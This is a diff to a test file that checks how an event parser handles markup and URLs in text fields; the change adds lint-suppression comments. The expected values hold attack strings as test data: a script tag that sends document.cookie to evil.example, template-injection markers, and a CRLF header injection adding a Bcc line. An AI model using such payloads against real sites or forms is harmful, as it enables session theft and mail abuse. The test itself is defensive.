@@ -46,7 +46,9 @@ describe('edge fixtures', () => {
   it('markup everywhere: text kept as data, every non-http(s) URL dropped', () => {
     const f = only('markup-in-every-text-field-event.json');
     // The model keeps text verbatim: escaping is the renderer's job, where the context is known.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the attack text under test
     expect(f.title).toBe('<script>alert("title")</script> {{title}} ${title}\r\nBcc: victim@example.com');
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the attack text under test
     expect(f.remediation).toEqual({ text: '<script>fetch("https://evil.example/?c="+document.cookie)</script> Fix ${it}' });
     expect(f.sourceUrl).toBeUndefined();
     expect(f.vulnerabilities[0]?.referenceUrls).toEqual(['https://nvd.nist.gov/vuln/detail/CVE-2024-0001']);
